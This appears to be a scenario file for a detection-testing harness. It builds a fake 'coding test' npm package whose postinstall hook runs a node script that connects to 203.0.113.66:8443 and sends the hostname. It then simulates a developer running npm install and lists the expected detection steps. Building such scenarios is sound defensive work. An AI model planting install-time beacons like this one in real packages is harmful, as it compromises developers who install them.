# A coding test whose dependencies are harmless; its install script is not.
title="Downloaded project, npm install runs its script"
what="dev downloads a coding test with Firefox, unpacks it and runs npm install as its readme says. The package's postinstall line starts node on a file of the archive, which connects to 203.0.113.66."
host=ws3.example.org user=dev daemons="cron sshd"

setup() {
  mkdir -p "$base/out/t/board-test/tools"
  echo '{"name": "board-test", "version": "1.0.0", "scripts": {"postinstall": "node tools/prepare.js"}}' > "$base/out/t/board-test/package.json"
  echo 'const s = require("net").connect(8443, "203.0.113.66", () => s.end(require("os").hostname())); s.on("error", () => {});' > "$base/out/t/board-test/tools/prepare.js"
  tar czf "$base/out/www/board-test.tgz" -C "$base/out/t" board-test
}
act() {
  display_up
  small_talk 2
  firefox_save dev http://webmail.example.com/board-test.tgz board-test.tgz
  sleep 2
  ssh_as dev <<'L'
mkdir -p projects; cd projects; tar xzf ~/Downloads/board-test.tgz
cd board-test; cat package.json
npm install --no-audit --no-fund --offline
L
}
truth() {
  file_step save 'firefox-esr rename.*/home/dev/Downloads/board-test.tgz' 'the browser saves the archive'
  exec_step install 'npm.* install' 'npm install is run'
  exec_step execute 'node tools/prepare.js' 'it runs a script of the archive'
  net_step beacon 'node.* 203.0.113.66:8443' 'which calls out'
}
